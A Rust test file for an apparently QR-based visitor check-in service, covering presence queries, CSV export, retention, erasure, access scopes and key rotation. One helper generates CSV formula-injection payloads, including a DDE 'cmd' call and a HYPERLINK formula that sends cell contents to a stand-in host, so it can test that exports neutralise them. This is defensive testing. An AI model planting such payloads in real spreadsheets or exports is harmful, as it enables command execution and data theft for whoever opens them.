//! Visits: who was there, and what is kept of documents.

use std::sync::Arc;

use qrseal::store::Role;
use qrseal::token::Claims;
use serde_json::{Value, json};

use super::{entry, exit, of, scan, send, ticket};
use crate::accounts::person;
use crate::app::{Answer, TestApp, keyring, now};

/// A list that keeps visits, and a visitor who is in.
fn visited(app: &TestApp, members: &Value) -> (String, Value) {
    let mut asked = json!({
        "name": "Friday", "accepts": [{"profile": "sign-in"}], "store": "visit", "retention_days": 21,
        "time_zone": "Europe/Berlin",
    });
    for (name, value) in members.as_object().unwrap() {
        asked[name] = value.clone();
    }
    let made = app.post_json("/api/lists", asked.to_string());
    assert_eq!(made.status, 201, "{}", made.text());
    let list = made.json()["id"].as_str().unwrap().to_owned();
    let document = r#"{"name":"=Ana Sousa","phone":"+49 30 1234567","email":"ana@example.com"}"#;
    let claims = Claims {
        expires_in: Some((60 * 86_400).try_into().unwrap()),
        ..of(SIGN_IN)
    };
    let token = app.sealed(document, &claims, now());
    let told = scan(app, &entry(&list, &token));
    assert_eq!(told.status, 201, "{}", told.text());
    (list, told.json())
}

const SIGN_IN: u32 = 3;

/// Who was there between two times, in seconds from now.
fn ask(app: &TestApp, list: &str, from: i64, until: i64, accept: &str) -> Answer {
    let now = i64::try_from(app.app.now().as_secs()).unwrap();
    ask_between(app, list, now + from, now + until, accept)
}

fn ask_between(app: &TestApp, list: &str, from: i64, until: i64, accept: &str) -> Answer {
    let time = |secs: i64| jiff::Timestamp::from_second(secs).unwrap().to_string();
    let body = json!({"from": time(from), "until": time(until), "reason": "case 4711"});
    let headers = [("content-type", "application/json"), ("accept", accept)];
    app.send(
        "POST",
        &format!("/api/lists/{list}/presence"),
        &headers,
        body.to_string().as_bytes(),
    )
}

#[test]
fn who_was_there_is_told_with_a_reason_and_as_a_table_without_formulas() {
    let app = TestApp::start();
    let (list, _) = visited(&app, &json!({"assumed_stay_minutes": 60}));
    let told = ask(&app, &list, -600, 600, "application/json");
    assert_eq!(told.status, 200, "{}", told.text());
    let told = told.json();
    assert_eq!(told["people"], 1);
    assert!(
        told["present"][0]["display"]
            .to_string()
            .contains("+49 30 1234567"),
        "{told}"
    );
    let table = ask(&app, &list, -600, 600, "text/csv").text().to_owned();
    assert!(
        table.contains("'=Ana Sousa") && table.contains("'+49 30 1234567"),
        "{table}"
    );
    app.app.clock.step(7_200);
    let later = ask(&app, &list, -600, 600, "application/json").json();
    assert_eq!(
        later["present"],
        json!([]),
        "nobody stays longer than an hour"
    );
    assert_eq!(
        ask(&app, &list, -7_100, 0, "application/json").json()["people"],
        1
    );
    let audit = app.get("/api/audit?verb=presence").json();
    assert_eq!(audit["rows"][0]["details"]["reason"], "case 4711");
    assert_eq!(audit["rows"].as_array().unwrap().len(), 4);
    let path = format!("/api/lists/{list}/presence");
    let unreasoned =
        json!({"from": "2026-11-27T12:00:00Z", "until": "2026-11-27T13:00:00Z", "reason": ""});
    app.post_json(&path, unreasoned.to_string())
        .problem(422, "validation");
    let backwards =
        json!({"from": "2026-11-27T13:00:00Z", "until": "2026-11-27T12:00:00Z", "reason": "why"});
    app.post_json(&path, backwards.to_string())
        .problem(422, "validation");
}

/// What begins a formula.
const FORMULAS: [&str; 8] = ["=", "+", "-", "@", "＝", "＋", "－", "＠"];

/// Names that a spreadsheet would execute, 208 of them.
fn injections() -> Vec<String> {
    let before = [
        "", " ", "\t", "\r", "\n", "\u{a0}", "\"", "'", "x;", "x; ", "x\n", "x\";", "x\",\"",
    ];
    let formulas = FORMULAS.iter().flat_map(|formula| {
        [
            "cmd|' /C calc'!A0",
            "HYPERLINK(\"https://x.example?\"&A1,\"a\")",
        ]
        .map(|rest| format!("{formula}{rest}"))
    });
    formulas
        .flat_map(|formula| before.map(|before| format!("{before}{formula}")))
        .collect()
}

#[test]
fn no_name_that_a_visitor_gives_is_a_formula_in_a_table_wherever_it_is_opened() {
    let app = TestApp::start();
    let (list, _) = visited(&app, &json!({}));
    let names = injections();
    assert!(names.len() >= 200);
    for name in &names {
        let document = json!({"name": name, "phone": name, "email": "ana@example.com"});
        let token = app.sealed(&document.to_string(), &of(SIGN_IN), now());
        let told = scan(&app, &entry(&list, &token));
        assert_eq!(told.status, 201, "{}", told.text());
    }
    let told = ask(&app, &list, -600, 600, "text/csv");
    let table = told.text();
    let is_formula = |cell: &str| {
        let begins = cell.trim_start_matches(|char: char| char.is_whitespace() || char == '"');
        FORMULAS.iter().any(|formula| begins.starts_with(formula))
    };
    let mut reader = csv::Reader::from_reader(table.as_bytes());
    let rows: Vec<_> = reader.records().map(Result::unwrap).collect();
    assert_eq!(rows.len(), names.len() + 1, "each visit is a line");
    let mut cells: Vec<&str> = rows.iter().flatten().collect();
    // Where lists have semicolons, a spreadsheet sees no quotes in the middle of what it takes for a cell.
    cells.extend(table.split(['\r', '\n', ';']));
    let formulas: Vec<_> = cells.into_iter().filter(|cell| is_formula(cell)).collect();
    assert_eq!(formulas, [""; 0]);
}

#[test]
fn whoever_is_let_out_was_there_until_then() {
    let app = TestApp::start();
    // The hour at which the list lets everybody out is far.
    let far = format!("{:02}:00", (now().as_secs() / 3_600 + 12) % 24);
    let (list, told) = visited(&app, &json!({"exits": "on", "exit_all_at": far}));
    let rows = app.get(&format!("/api/lists/{list}/check-ins")).json();
    assert_eq!(rows["check_ins"][0]["id"], told["id"]);
    app.app.clock.step(600);
    assert_eq!(
        ask(&app, &list, -60, 60, "application/json").json()["people"],
        1,
        "inside still"
    );
    let other = app.sealed(r#"{"name":"Rui"}"#, &of(SIGN_IN), now());
    assert_eq!(scan(&app, &entry(&list, &other)).status, 201);
    app.app.clock.step(600);
    let left = scan(&app, &exit(&list, &other)).json();
    assert_eq!(left["no_entry"], false);
    let left: jiff::Timestamp = left["at"].as_str().unwrap().parse().unwrap();
    let since = |secs| {
        let from = left.as_second() + secs;
        ask_between(&app, &list, from, from + 60, "application/json").json()["people"].clone()
    };
    assert_eq!(since(-1), 2, "there until then");
    assert_eq!(since(1), 1, "and no longer");
    // Undone, nobody was there.
    let path = format!("/api/check-ins/{}", told["id"].as_str().unwrap());
    assert_eq!(app.send("DELETE", &path, &[], b"").status, 200);
    assert_eq!(
        ask(&app, &list, 1, 60, "application/json").json()["people"],
        0
    );
}

#[test]
fn a_visit_is_shown_to_those_who_may_erased_and_gone_after_its_days() {
    let app = TestApp::start();
    let (list, told) = visited(&app, &json!({}));
    let path = format!("/api/check-ins/{}", told["id"].as_str().unwrap());
    assert!(app.get(&path).text().contains("ana@example.com"));
    let looked = app.get("/api/audit?verb=presence").json();
    assert_eq!(looked["rows"].as_array().unwrap().len(), 1, "{looked}");
    assert_eq!(looked["rows"][0]["details"]["list"], list);
    for _ in 0..2 {
        assert_eq!(
            app.send("DELETE", &format!("{path}/visit"), &[], b"")
                .status,
            204
        );
    }
    assert!(!app.get(&path).text().contains("ana@example.com"));
    let after = ask(&app, &list, -600, 600, "application/json").json();
    assert_eq!(
        (&after["people"], &after["present"][0]["display"]),
        (&json!(1), &Value::Null)
    );
    assert_eq!(
        app.get("/api/audit?verb=erase_visit").json()["rows"]
            .as_array()
            .unwrap()
            .len(),
        1
    );

    let (list, told) = visited(&app, &json!({}));
    let path = format!("/api/check-ins/{}", told["id"].as_str().unwrap());
    let tidy = || app.wait(async |app| qrseal::desk::tidy(&*app.store, app.now()).await.unwrap());
    app.app.clock.step(21 * 86_400 - 60);
    tidy();
    assert!(app.get(&path).text().contains("ana@example.com"));
    app.app.clock.step(120);
    assert!(tidy().rows > 0);
    app.get(&path).problem(404, "not_found");
    let store = &app.app.store;
    let slot = app.app.keyring.load().primary().slot();
    assert_eq!(
        app.wait(async |_| store.count_visits(slot).await.unwrap()),
        0
    );
    assert_eq!(
        app.get(&format!("/api/lists/{list}")).json()["counts"]["entries"],
        1
    );
}

#[test]
fn a_key_without_the_scope_is_told_of_no_visit() {
    let app = TestApp::with(&[("SERVER__PUBLIC_URL", "https://qr.example.com")]);
    let key = app.api_key("lists,check");
    let body = json!({"name": "Friday", "accepts": [{"profile": "ticket"}], "store": "visit"});
    let list = send(&app, &key, "POST", "/api/lists", &body).json()["id"]
        .as_str()
        .unwrap()
        .to_owned();
    let told = send(
        &app,
        &key,
        "POST",
        "/api/check-ins",
        &entry(&list, &ticket(&app, "gala", 1)),
    );
    assert_eq!(told.status, 201, "{}", told.text());
    let path = format!("/api/check-ins/{}", told.json()["id"].as_str().unwrap());
    let (admin, _) = person(&app, "ada", Role::Admin);
    // The cookie's name, where the address has HTTPS.
    let admin = admin.replace("qrseal-session", "__Host-qrseal");
    let shown = app.send("GET", &path, &[("cookie", admin.as_str())], b"");
    assert!(shown.text().contains("Ana Sousa"), "{}", shown.text());
    let shown = send(&app, &key, "GET", &path, &Value::Null);
    assert_eq!(shown.status, 200);
    assert!(!shown.text().contains("Ana Sousa"), "{}", shown.text());
    send(&app, &key, "DELETE", &format!("{path}/visit"), &Value::Null).problem(403, "forbidden");
    let asked =
        json!({"from": "2026-11-27T12:00:00Z", "until": "2036-11-27T13:00:00Z", "reason": "why"});
    send(
        &app,
        &key,
        "POST",
        &format!("/api/lists/{list}/presence"),
        &asked,
    )
    .problem(403, "forbidden");
}

#[test]
fn visits_move_to_another_key_and_in_the_store_no_name_can_be_found() {
    let two_keys = || {
        let mut keyring = keyring();
        let new = keyring
            .add(
                qrseal::token::Secret::from([8; 32]),
                qrseal::token::TOKEN_EPOCH,
            )
            .unwrap();
        (keyring, new)
    };
    let app = TestApp::with_keyring(&[], two_keys().0);
    let (list, _) = visited(&app, &json!({}));
    let old = app.app.keyring.load().primary().slot();
    let count = |slot| app.wait(async |app| app.store.count_visits(slot).await.unwrap());
    assert_eq!(count(old), 1);
    let (mut rotated, new) = two_keys();
    rotated.promote(new).unwrap();
    app.app.keyring.store(Arc::new(rotated));
    let done = app.wait(async |app| {
        qrseal::desk::reseal_visits(&*app.store, &app.keyring.load(), |_| {})
            .await
            .unwrap()
    });
    assert_eq!((done.moved, done.unreadable), (1, 0));
    assert_eq!((count(old), count(new)), (0, 1));
    let told = ask(&app, &list, -600, 600, "application/json");
    assert!(told.text().contains("Ana Sousa"));
    let files = std::fs::read_dir(app.folder_path()).unwrap();
    let files: Vec<_> = files
        .map(|file| std::fs::read(file.unwrap().path()).unwrap())
        .collect();
    let is_there = |text: &str| {
        let in_file = |file: &Vec<u8>| file.windows(text.len()).any(|part| part == text.as_bytes());
        files.iter().any(in_file)
    };
    assert!(is_there("Friday"), "the list's name is no secret");
    for secret in ["Ana Sousa", "1234567", "ana@example.com"] {
        assert!(!is_there(secret), "{secret} is in the store");
    }
}

#[test]
fn what_a_page_names_hides_nothing_that_stands_beside_it_from_a_phone_or_from_staff() {
    const GUEST: &str = r#"
        number = 40
        title = "Guest"
        schema = { type = "object" }
        [page]
        fields = [
            { pointer = "/contact/phone", label = "Phone" },
            { pointer = "/stay/room/number", label = "Room" },
            { pointer = "/price", label = "Price", format = "money", currency = "/currency" },
        ]
    "#;
    let (app, _folder) = crate::profiles::with_profiles(&[("guest", GUEST)], &[]);
    let asked = json!({"name": "Door", "accepts": [{"profile": "guest"}], "store": "visit", "retention_days": 21});
    let made = app.post_json("/api/lists", asked.to_string());
    assert_eq!(made.status, 201, "{}", made.text());
    let list = made.json()["id"].as_str().unwrap().to_owned();
    let document = json!({
        "contact": {"phone": "+49 30 1", "mail": "ana@example.com"},
        "stay": {"room": {"number": 12, "floor": "third"}, "nights": "four"},
        "currency": "EUR"
    });
    let token = app.sealed(&document.to_string(), &of(40), now());
    let told = scan(&app, &entry(&list, &token));
    assert_eq!(told.status, 201, "{}", told.text());
    let fields: Vec<(String, String)> = told.json()["display"]["fields"]
        .as_array()
        .unwrap()
        .iter()
        .map(|field| {
            let text = |name: &str| field[name].as_str().unwrap().to_owned();
            (text("label"), text("value"))
        })
        .collect();
    let expected = [
        ("Phone", "+49 30 1"),
        ("Room", "12"),
        ("Contact: Mail", "ana@example.com"),
        ("Stay: Room: Floor", "third"),
        ("Stay: Nights", "four"),
        // No amount says it.
        ("Currency", "EUR"),
    ];
    let expected = expected.map(|(label, value)| (label.to_owned(), value.to_owned()));
    assert_eq!(fields, expected);
    let phone = app.get_as(&format!("/{token}"), "text/html");
    // Behind it stands the JSON, which has everything.
    let (phone, _) = phone.text().split_once("class=\"source\"").unwrap();
    let table = ask(&app, &list, -600, 600, "text/csv");
    for part in ["+49 30 1", "ana@example.com", "third", "four", "EUR"] {
        assert!(phone.contains(part), "{part} in {phone}");
        assert!(table.text().contains(part), "{part} in {}", table.text());
    }
}
